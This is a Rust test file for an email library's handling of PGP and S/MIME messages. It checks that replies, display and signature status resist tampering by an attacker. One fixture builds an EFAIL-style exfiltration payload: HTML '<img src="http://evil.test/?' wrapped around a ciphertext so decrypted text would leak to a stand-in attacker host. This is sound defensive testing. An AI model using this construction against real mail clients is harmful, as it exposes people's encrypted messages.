use kakitome::domain::Mailbox;
use kakitome::flow::{CautionCode, Lock, Seal, reply};

use super::world::{ALICE, BOB, MALLORY, WORLD, cautioned, html, mail, multipart, shown, text};

const SECRET: &str = "the launch code is 0000";

fn quoted(found: &kakitome::flow::Assessment) -> String {
    let me = Mailbox::new("", ALICE);
    [reply::Answer::Reply, reply::Answer::ReplyAll, reply::Answer::Forward]
        .map(|answer| reply::draft(found, &me, answer).text)
        .join("\n")
}

#[test]
fn a_ciphertext_between_pieces_of_html_is_never_joined_with_them() {
    for cipher in [
        WORLD.pgp_encrypted(&text(SECRET), None),
        WORLD.smime_encrypted(&text(SECRET), false),
        WORLD.smime_encrypted(&html(SECRET), true),
    ] {
        for kind in ["mixed", "related", "alternative", "x-unknown"] {
            let before = html("<img src=\"http://evil.test/?");
            let found = WORLD.assess(mail(MALLORY, &multipart(kind, &[&before, &cipher, &html("\">")])));
            assert_eq!(found.headline.lock, Lock::NotEncrypted, "{kind}");
            for block in &found.blocks {
                let html = block.html.as_deref().unwrap_or_default();
                assert!(!(html.contains("evil.test") && html.contains(SECRET)), "{kind}: {block:?}");
                assert!(block.decrypted || !block.text.contains(SECRET));
            }
            assert!(!quoted(&found).contains(SECRET), "{kind}: {}", quoted(&found));
            assert!(!found.text.contains(SECRET));
        }
    }
}

#[test]
fn what_was_decrypted_alone_is_not_quoted_even_inside_another_encryption() {
    for cipher in [WORLD.pgp_encrypted(&text(SECRET), None), WORLD.smime_encrypted(&text(SECRET), false)] {
        let mixed = multipart("mixed", &[&text("What is for lunch?"), &cipher]);
        for outer in [
            WORLD.pgp_encrypted(&mixed, Some(MALLORY)),
            WORLD.smime_encrypted(&mixed, true),
            WORLD.pgp_signed(MALLORY, &mixed),
            WORLD.pgp_signed(MALLORY, &multipart("mixed", &[&multipart("mixed", &[&cipher])])),
        ] {
            let found = WORLD.assess(mail(MALLORY, &outer));
            assert!(!quoted(&found).contains(SECRET), "{}", quoted(&found));
        }
    }
}

#[test]
fn an_inline_object_within_a_text_is_not_quoted_and_does_not_lock_the_message() {
    let object = String::from_utf8(WORLD.pgp_object(SECRET.as_bytes(), None, &[ALICE])).expect("armor");
    let object = object.replace('\n', "\r\n");
    let found = WORLD.assess(mail(MALLORY, &text(&format!("What is for lunch?\r\n{}{object}", "\r\n".repeat(100)))));
    assert_eq!(found.headline.lock, Lock::NotEncrypted);
    assert!(!quoted(&found).contains(SECRET));
    let alternative = multipart("alternative", &[&text(&object), &html("<p>What is for lunch?</p>")]);
    let found = WORLD.assess(mail(MALLORY, &alternative));
    assert_eq!(found.headline.lock, Lock::NotEncrypted);
    assert!(!quoted(&found).contains(SECRET) && !shown(&found).contains(SECRET));
}

#[test]
fn an_answer_to_anything_that_was_encrypted_is_to_be_encrypted() {
    for entity in [
        WORLD.pgp_encrypted(&text(SECRET), Some(BOB)),
        multipart("mixed", &[&text("x"), &WORLD.smime_encrypted(&text(SECRET), true)]),
    ] {
        let found = WORLD.assess(mail(BOB, &entity));
        assert!(reply::draft(&found, &Mailbox::new("", ALICE), reply::Answer::Reply).protection.encrypt);
    }
}

#[test]
fn enveloped_data_is_without_integrity_unless_a_signature_is_inside_that_very_layer() {
    let bare = |entity: &[u8]| WORLD.smime_encrypted(entity, false);
    let strong = |entity: &[u8]| WORLD.smime_encrypted(entity, true);
    let signed = |who: &str, entity: &[u8]| WORLD.smime_signed(who, entity);
    // Signed inside: whatever was changed on the way, the signature would tell.
    let found = WORLD.assess(mail(BOB, &bare(&signed(BOB, &text(SECRET)))));
    assert!(!cautioned(&found, CautionCode::NoIntegrity));
    assert_eq!(found.headline.seal, Seal::Authenticated);
    for entity in [
        bare(&text(SECRET)),
        bare(&multipart("mixed", &[&html("<img src=x>"), &signed(MALLORY, &text("x"))])),
        multipart("mixed", &[&bare(&html("x")), &bare(&signed(MALLORY, &text("x")))]),
        strong(&signed(MALLORY, &bare(&text(SECRET)))),
        signed(MALLORY, &bare(&text(SECRET))),
        strong(&multipart("mixed", &[&signed(MALLORY, &text("x")), &bare(&html("x"))])),
    ] {
        let found = WORLD.assess(mail(MALLORY, &entity));
        assert!(cautioned(&found, CautionCode::NoIntegrity), "{:?}", found.encryption);
    }
}

#[test]
fn an_altered_ciphertext_is_never_shown_when_it_has_integrity() {
    let object = WORLD.pgp_object(text(SECRET).as_slice(), Some(BOB), &[ALICE]);
    let armored = String::from_utf8(object).expect("armor");
    let lines: Vec<&str> = armored.lines().collect();
    let mut altered = lines.clone();
    altered.swap(lines.len() - 5, lines.len() - 6);
    let entity = kakitome::message::multipart_encrypted(altered.join("\n").as_bytes());
    let found = WORLD.assess(mail(BOB, &entity));
    assert_eq!(found.headline.lock, Lock::CannotOpen);
    assert!(found.blocks.is_empty() && found.headline.seal == Seal::Unsigned);
}

#[test]
fn a_signature_for_somebody_else_does_not_seal_what_was_encrypted_anew() {
    // Bob wrote to mallory; she opens it and encrypts bob's signature to alice. The signed object
    // says whom it was for, so only its whole OpenPGP form is passed on: a test of that form.
    let object = WORLD.pgp_object(&text("I owe you 10"), Some(BOB), &[MALLORY]);
    let entity = kakitome::message::multipart_encrypted(&object);
    let found = WORLD.assess(mail(BOB, &entity));
    assert_eq!(found.headline.lock, Lock::CannotOpen);
    assert_eq!(found.headline.seal, Seal::Unsigned);
}

#[test]
fn a_message_in_the_clear_is_not_locked_because_it_is_labelled_as_encrypted() {
    for entity in [
        multipart("encrypted; protocol=\"application/pgp-encrypted\"", &[&text("Version: 1"), &text(SECRET)]),
        multipart("encrypted", &[&text(SECRET)]),
        multipart("encrypted", &[&text("x"), &text(SECRET), &text("y")]),
        kakitome::message::pkcs7_mime(&WORLD.smime_opaque(BOB, &text(SECRET)), "enveloped-data", "smime.p7m"),
    ] {
        let found = WORLD.assess(mail(BOB, &entity));
        assert_ne!(found.headline.lock, Lock::Encrypted, "{:?}", found.encryption);
        assert!(found.parts.iter().all(|part| !part.decrypted));
    }
}

#[test]
fn many_encrypted_parts_are_opened_up_to_a_limit_and_none_is_lost() {
    let cipher = WORLD.pgp_encrypted(&text(SECRET), None);
    let parts = vec![cipher.as_slice(); 50];
    let found = WORLD.assess(mail(MALLORY, &multipart("mixed", &parts)));
    assert_eq!(found.headline.lock, Lock::NotEncrypted);
    assert!(found.parts.iter().filter(|part| part.decrypted).count() <= 16);
    assert!(found.parts.len() >= 50);
    assert!(!quoted(&found).contains(SECRET));
}

#[test]
fn deep_nests_of_encryption_end_as_closed() {
    let mut entity = text(SECRET);
    for _ in 0..12 {
        entity = WORLD.smime_encrypted(&entity, true);
    }
    let found = WORLD.assess(mail(BOB, &entity));
    assert!(found.blocks.is_empty());
    assert_eq!(found.headline.lock, Lock::CannotOpen, "nothing of it is shown");
}

#[test]
fn a_picture_and_a_page_of_different_protection_are_in_blocks_of_different_protection() {
    let picture = b"Content-Type: image/png\r\nContent-ID: <logo>\r\n\r\nx".to_vec();
    let sealed = WORLD.pgp_signed(BOB, &html("<img src=\"cid:logo\">"));
    let found = WORLD.assess(mail(BOB, &multipart("related", &[&sealed, &picture])));
    let part = found.parts.iter().find(|part| part.content_id.as_deref() == Some("logo")).expect("the picture");
    let block = found.blocks.iter().find(|block| block.html.is_some()).expect("the page");
    assert!(block.signed && !part.signed);
}

#[test]
fn a_signature_around_a_ciphertext_does_not_make_its_content_the_signers() {
    for cipher in [WORLD.pgp_encrypted(&text(SECRET), None), WORLD.smime_encrypted(&text(SECRET), true)] {
        for taken in
            [WORLD.pgp_signed(MALLORY, &cipher), WORLD.smime_signed(MALLORY, &cipher), WORLD.pgp_signed(BOB, &cipher)]
        {
            for from in [BOB, MALLORY] {
                let found = WORLD.assess(mail(from, &taken));
                assert_eq!((found.headline.lock, found.headline.seal), (Lock::Encrypted, Seal::Unsigned));
                assert!(found.parts.iter().all(|part| !part.signed));
                assert_eq!(found.signatures.len(), 1);
            }
        }
    }
    // What bob signed inside is bob's, whoever signs around it.
    let inside = WORLD.smime_encrypted(&WORLD.smime_signed(BOB, &text(SECRET)), true);
    assert_eq!(WORLD.assess(mail(BOB, &WORLD.smime_signed(MALLORY, &inside))).headline.seal, Seal::Authenticated);
    assert_eq!(WORLD.assess(mail(MALLORY, &WORLD.smime_signed(MALLORY, &inside))).headline.seal, Seal::Unauthenticated);
}

#[test]
fn a_signed_part_inside_an_encryption_does_not_seal_what_is_beside_it() {
    let mixed = multipart("mixed", &[&html("<b>I owe you 1000</b>"), &WORLD.pgp_signed(BOB, &text("I owe you 10"))]);
    for entity in [WORLD.pgp_encrypted(&mixed, None), WORLD.smime_encrypted(&mixed, true)] {
        let found = WORLD.assess(mail(BOB, &entity));
        assert_eq!((found.headline.lock, found.headline.seal), (Lock::Encrypted, Seal::Unsigned));
        assert!(found.blocks.iter().all(|block| !(block.signed && block.text.contains("1000"))));
        assert!(cautioned(&found, CautionCode::Mixture));
    }
}
